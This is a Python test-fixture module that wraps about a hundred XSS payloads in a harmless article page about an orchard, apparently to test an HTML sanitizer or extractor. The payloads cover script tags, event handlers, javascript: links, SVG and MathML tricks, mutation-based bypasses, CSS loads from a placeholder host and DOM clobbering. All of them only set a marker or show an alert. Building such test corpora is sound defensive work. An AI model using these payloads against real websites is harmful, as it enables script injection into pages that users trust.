"""Pages that try to run a script, to load something or to leave the place that they are shown in.

Each is a whole page: an article that is worth keeping, with the attack inside it, so that no cleaning takes the attack
away by dropping its block. A script that runs sets `window.__xss` or opens a dialog; what loads, asks `xss.invalid`.
"""

# ruff: noqa: E501 - an attack a line
from __future__ import annotations

import base64
from collections.abc import Iterator

# What an attack runs: short enough for every context, and without quotes.
RUN = "window.__xss=1,alert(1)"
HOST = "xss.invalid"

_BEFORE = "The orchard behind the mill was planted by two brothers who brought the trees up the valley on a cart."
_AFTER = "Most of the trees still bear fruit, and the brothers' grandchildren press the apples every October."
_SVG = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>".encode()).decode()
_PAGE = base64.b64encode(f"<script>top.{RUN}</script>".encode()).decode()

# By name, what stands between two paragraphs of the article.
_ATTACKS: dict[str, str] = {
    # Scripts, as they stand.
    "script": f"<script>{RUN}</script>",
    "script of another host": f"<script src=//{HOST}/x.js></script>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script nobody ends": f"<script>{RUN}",
    "script inside a script's name": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script module": f"<script type=module>import 'https://{HOST}/x.js';{RUN}</script>",
    "script of a data address": f"<script src='data:text/javascript,{RUN}'></script>",
    "script in the text of a paragraph": f"<p>Fruit &lt;script&gt;{RUN}&lt;/script&gt; for every neighbour who asks.</p>",
    "script in a paragraph that ends the report's": f"<p>Fruit</p></script></iframe></template><script>{RUN}</script>",
    "json that ends its script": "<p>&lt;/script&gt;&lt;script&gt;window.__xss=1&lt;/script&gt; &lt;!--&lt;script&gt;</p>",
    # Handlers.
    "image with onerror": f"<p>An apple <img src=x onerror={RUN}> of the orchard that the brothers planted.</p>",
    "image with onerror and slashes": f"<img/src=x/onerror={RUN}>",
    "image with onload and srcset": f"<img srcset='//{HOST}/a.png 1x' onload={RUN} onerror={RUN}>",
    "image that is lazy": f"<img data-src=//{HOST}/b.png loading=lazy src=data:, onerror={RUN}>",
    "body with onload": f"<body onload={RUN} onpageshow={RUN} background=//{HOST}/bg.png>",
    "input with autofocus": f"<input autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}></textarea>",
    "details with ontoggle": f"<details open ontoggle={RUN}><summary>More</summary>About the orchard.</details>",
    "marquee with onstart": f"<marquee onstart={RUN}>Apples are sold at the gate every Saturday.</marquee>",
    "video with onerror": f"<video src=x onerror={RUN} poster=//{HOST}/p.png><source src=x onerror={RUN}></video>",
    "audio with onerror": f"<audio autoplay src=//{HOST}/a.ogg onerror={RUN} onloadstart={RUN}></audio>",
    "paragraph with handlers": f"<p onmouseover={RUN} onpointerenter={RUN} onclick={RUN} onfocus={RUN} tabindex=1>Apples</p>",
    "paragraph with an animation": (
        f"<style>@keyframes x{{from{{left:0}}}}</style><p style='animation-name:x;animation-duration:1s' "
        f"onanimationstart={RUN} onanimationend={RUN}>Apples that the brothers sold.</p>"
    ),
    "transition": f"<p style='transition:opacity 1s' ontransitionrun={RUN} ontransitionend={RUN}>Apples they sold.</p>",
    "handler in capitals and odd spaces": f"<p oNcLiCk\x0c=\x0c{RUN} ONMOUSEOVER={RUN}>Apples that they sold.</p>",
    "hidden until found": f"<div hidden=until-found onbeforematch={RUN}>Apples that the brothers sold.</div>",
    "popover": f"<button popovertarget=x>Open</button><div popover id=x onbeforetoggle={RUN}>Apples they sold.</div>",
    "content-visibility": f"<p oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>Apples.</p>",
    "custom element": f"<x-block data-row=0 data-reason=advert onclick={RUN} style=animation:x>Apples</x-block>",
    # Addresses.
    "javascript link": f"<p>The brothers' <a href='javascript:{RUN}'>first harvest</a> was sold at the gate.</p>",
    "javascript link in entities": f"<a href='&#106;&#97;vascript&colon;{RUN}'>The first harvest of the orchard</a>",
    "javascript link with a tab": f"<a href='java\tscript:{RUN}'>The first harvest</a> <a href=' \x01javascript:{RUN}'>a</a>",
    "javascript link after a base": f"<base href='javascript:{RUN}//'><a href='#'>The first harvest</a>",
    "base of another host": f"<base href=//{HOST}/ target=_top><a href=x>The first harvest</a><img src=y.png>",
    "vbscript and data links": f"<a href='vbscript:{RUN}'>a</a><a href='data:text/html;base64,{_PAGE}'>the harvest</a>",
    "link with ping": f"<a href=#x ping=//{HOST}/ping onclick={RUN}>The first harvest of the orchard</a>",
    "link to the frame above": f"<a href='//{HOST}/' target=_top autofocus>The first harvest of the orchard</a>",
    "area of a map": f"<map name=m><area href='javascript:{RUN}' shape=default></map><img usemap=#m src=x>",
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'><meta http-equiv=refresh content=0;//{HOST}>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "prefetch": f"<link rel=dns-prefetch href=//{HOST}><link rel=preload as=image href=//{HOST}/p.png><link rel=icon href=//{HOST}/i>",
    "style sheet of another host": f"<link rel=stylesheet href=//{HOST}/x.css onload={RUN} onerror={RUN}>",
    # Frames, objects, forms.
    "frame with a script": f"<iframe src='javascript:top.{RUN}'></iframe><iframe srcdoc='<script>top.{RUN}</script>'></iframe>",
    "frame with onload": f"<iframe onload={RUN} src=//{HOST}/></iframe><frame src='javascript:{RUN}'>",
    "frameset": f"<frameset onload={RUN}><frame src='javascript:{RUN}'></frameset>",
    "object and embed": (
        f"<object data='data:text/html;base64,{_PAGE}' onerror={RUN}></object>"
        f"<embed src='data:image/svg+xml;base64,{_SVG}' type=image/svg+xml><applet code=x></applet>"
    ),
    "form": (
        f"<form action='javascript:{RUN}'><button formaction='javascript:{RUN}'>Buy</button><input type=image "
        f"src=//{HOST}/i.png onerror={RUN}><input type=submit formaction='javascript:{RUN}'></form>"
    ),
    "form that clobbers": (
        "<form id=body name=body><input name=querySelectorAll><input name=addEventListener></form>"
        "<img name=documentElement id=documentElement><a id=defaultView name=defaultView>Apples</a>"
        "<p id=page>Apples</p><p id=data>{}</p><form name=adoptedStyleSheets></form>"
    ),
    "is of another element": f"<button is=x-block onclick={RUN}>Apples</button><isindex prompt=x action='javascript:{RUN}'>",
    # SVG and MathML.
    "svg with onload": f"<svg onload={RUN}><circle r=9></circle></svg>",
    "svg with a script": f"<svg><script>{RUN}</script><script href='data:,{RUN}'/></svg>",
    "svg that animates an address": (
        f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text y=20>The first harvest</text></a>"
        f"<set attributeName=onmouseover to='{RUN}'/><animate onbegin={RUN} attributeName=x dur=1s></svg>"
    ),
    "svg with foreign objects": f"<svg><foreignObject><body onload={RUN}><p>Apples</p><img src=x onerror={RUN}></foreignObject></svg>",
    "svg that uses another": (
        f"<svg><use href='data:image/svg+xml;base64,{_SVG}#x'/><image href=//{HOST}/a.png onerror={RUN} />"
        f"<image xlink:href='//{HOST}/b.png'/><filter><feImage href=//{HOST}/c.png /></filter></svg>"
    ),
    "svg with a handler element": f"<svg xmlns:ev='http://www.w3.org/2001/xml-events'><handler ev:event=load>{RUN}</handler></svg>",
    "math with a link": f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>apples</maction></math>",
    # Markup that is another tree once it is read a second time.
    "mutation through math and style": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'></table></math>"
    ),
    "mutation through svg and title": f"<svg></p><title><a id='</title><img src=x onerror={RUN}>'></a></svg>",
    "mutation through noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>Apples they sold</p></noscript>",
    "mutation through a form in a form": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}></style></form>"
    ),
    "mutation through select": f"<select><template><style><!--</style><a rel='--><img src=x onerror={RUN}>'></template></select>",
    "mutation through textarea": f"<textarea></textarea><p>x<textarea><img title='</textarea><img src=x onerror={RUN}>'></p>",
    "mutation through xmp and plaintext": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp><noembed><img src=x onerror={RUN}></noembed>",
    "mutation through listing": f"<listing>&lt;img src=x onerror={RUN}&gt;</listing><pre>\n\n&lt;img src=x onerror={RUN}&gt;</pre>",
    "comment that ends early": f"<!--><img src=x onerror={RUN}>--><!---!><img src=x onerror={RUN}>--!><img src=x onerror={RUN}>",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><![CDATA[<img src=x onerror={RUN}>]]>",
    "processing instruction": f"<?xml-stylesheet href='javascript:{RUN}'?><?php echo '<img src=x onerror={RUN}>' ?>",
    "backticks for quotes": f"<img src=`x` alt=`` onerror={RUN}><p title=`x` onclick={RUN}>Apples they sold</p>",
    "quotes in attributes": f"<p class='a\"><img src=x onerror={RUN}>' id='\"onclick={RUN} x=\"' lang='\"><script>{RUN}</script>'>Apples</p>",
    "alternative text that breaks out": f"<img alt='\"><script>{RUN}</script>' width='1\" onerror={RUN} x=\"' height='9e9'>",
    "template": f"<template><img src=x onerror={RUN}></template><template shadowrootmode=open><script>{RUN}</script></template>",
    "slots and shadow": f"<div><template shadowrootmode=closed><slot onslotchange={RUN}></slot></template>Apples</div>",
    "table that fosters": f"<table><img src=x onerror={RUN}><tr><script>{RUN}</script><td>Apples<svg/onload={RUN}></table>",
    "half a tag": f"<p>Apples</p><img src=x onerror={RUN} <p>that the brothers sold",
    "greater sign in an attribute": f"<p title='>' onmouseover={RUN} class='>'>Apples that the brothers sold at the gate</p>",
    "another encoding": f"<meta charset=utf-7><p>+ADw-script+AD4-{RUN}+ADw-/script+AD4- and apples for all of them</p>",
    "placeholders of templates": f"<p>$script ${{script}} $$data {{{{constructor.constructor('{RUN}')()}}}} %(x)s {{0}} \\u003cscript\\u003e</p>",
    "replacement patterns": f"<p>$&amp; $` $' $1 \\1 \\g&lt;0&gt; &lt;img src=x onerror={RUN}&gt;</p>",
    "line separators in data": f"<p>Apples \u2028\u2029{RUN}\u2028 \ufeff\u202e of the brothers</p>",
    # Text that is markup once it stands in Markdown.
    "backslash before a tag": f"<p>Apples \\&lt;script&gt;{RUN}&lt;/script&gt; and \\\\\\&lt;img src=x onerror={RUN}&gt; pears</p>",
    "backslash at the end of an element": f"<p>Apples \\<b></b>&lt;script&gt;{RUN}&lt;/script&gt; and <i>pears\\</i>&lt;script&gt;</p>",
    "backslash before a link": f"<p>Apples \\[and\\](javascript:{RUN}) pears, \\[quinces\\]: javascript:{RUN}</p>",
    "formula of its own": f"<p>Apples <span class='math inline'>$&lt;<b></b>script&gt;{RUN}&lt;<b></b>/script&gt;$</span></p>",
    "formula that opens a link": f"<p>Apples <span class='math inline'>[and]</span>(javascript:{RUN}) <span class='math display'>&lt;</span>script&gt;</p>",
    "alternative text with half a tag": f"<p>Apples <img src=x alt='<script x=\"'> \"&gt;{RUN}&lt;/script&gt; and pears</p>",
    "alternative text with a link": f"<p>Apples <img src=x alt='](y)[pears](javascript:{RUN})![`'> and <a href=x><img src=z alt='[a](javascript:{RUN})'></a></p>",
    "marks in an address": f"<p>Apples <a href='//a\U0010fff2) [x](javascript:{RUN}) \U0010fff077\U0010fff1'>and</a> <img src='x\U0010fff00\U0010fff1\U0010fff2'></p>",
    # Style.
    "style with imports": f"<style>@import '//{HOST}/a.css';@\\69mport url(//{HOST}/b.css);p{{color:red}}</style>",
    "style with addresses": (
        f"<style>p{{background:url(//{HOST}/c.png)}}article{{background:u\\72l(//{HOST}/d.png)}}"
        f"h1{{background:image-set('//{HOST}/e.png' 1x);content:url(//{HOST}/f.png)}}"
        f"li::before{{content:URL(//{HOST}/g.png)}}p{{list-style:/**/url(//{HOST}/h.png);cursor:url(//{HOST}/i.cur),auto}}"
        f":root{{--a:url(//{HOST}/j.png)}}p{{background:var(--a);mask:url(//{HOST}/k.svg#x)}}</style>"
    ),
    "style with fonts": f"<style>@font-face{{font-family:x;src:url(//{HOST}/x.woff)}}p{{font-family:x}}</style>",
    "style with nested rules": (
        f"<style>@media all{{@supports (color:red){{p{{background:url(//{HOST}/l.png)}}}}}}"
        f"article{{& p{{background:url(//{HOST}/m.png)}}}}@layer x{{p{{filter:url(//{HOST}/n.svg#x)}}}}"
        f"@scope(body){{p{{border-image:url(//{HOST}/o.png)}}}}@property --p{{syntax:'*';inherits:true;"
        f"initial-value:url(//{HOST}/q.png)}}p{{clip-path:var(--p)}}</style>"
    ),
    "style that ends early": f"<style></style><img src=x onerror={RUN}></style><style>p{{x:'</style><script>{RUN}</script>'}}</style>",
    "style with expressions": (
        f"<style>p{{width:expression({RUN});-moz-binding:url(//{HOST}/x.xml#x);behavior:url(//{HOST}/x.htc)}}</style>"
    ),
    "style attributes": (
        f"<p style='background:url(//{HOST}/p.png);width:expression({RUN})'>Apples that the brothers sold</p>"
        f"<p style='background:u\\72l(//{HOST}/q.png);list-style-image:url(&quot;//{HOST}/r.png&quot;)'>Apples</p>"
        f"<p style='--x:url(//{HOST}/s.png);background:var(--x)'>Apples</p><p style='x:y}}*{{background:url(//{HOST}/t.png)'>A</p>"
    ),
    "style that covers everything": (
        "<style>*{position:fixed!important;inset:0!important;z-index:2147483647!important;opacity:0!important}</style>"
    ),
    "style attributes that were renamed": f"<p data-style='background:url(//{HOST}/u.png)' data-row=1 data-label=x>Apples</p>",
}


def xss_pages() -> Iterator[tuple[str, str]]:
    """Yield the name and the page of each attack."""
    for name, attack in _ATTACKS.items():
        yield name, _page(attack)
    yield "attack in the title", _page("", title=f"</title><script>{RUN}</script><img src=x onerror={RUN}>")
    yield "attack in the escaped title", _page("", title=f"&lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;\"'&gt;")
    yield (
        "attack in the language",
        _page("").replace('lang="en"', f"lang='\"><script>{RUN}</script>' dir='x\" onclick={RUN}'"),
    )
    yield (
        "attack in the root",
        _page("").replace("<body>", f"<body class='\"><script>{RUN}</script>' id='x\" onload=\"{RUN}'>"),
    )
    yield "attack without anything else", f"<img src=x onerror={RUN}>"
    yield "attack below all depth", f"{'<div>' * 3000}{_BEFORE}<img src=x onerror={RUN}>{'</div>' * 3000}"


def _page(attack: str, title: str = "The orchard behind the mill") -> str:
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{title}</title></head><body>'
        f'<nav><a href="/">Home</a> <a href="/news">News</a></nav><article><h1>The orchard behind the mill</h1>'
        f"<p>{_BEFORE}</p>{attack}<p>{_AFTER}</p></article><footer>© The Valley Gazette</footer></body></html>"
    )
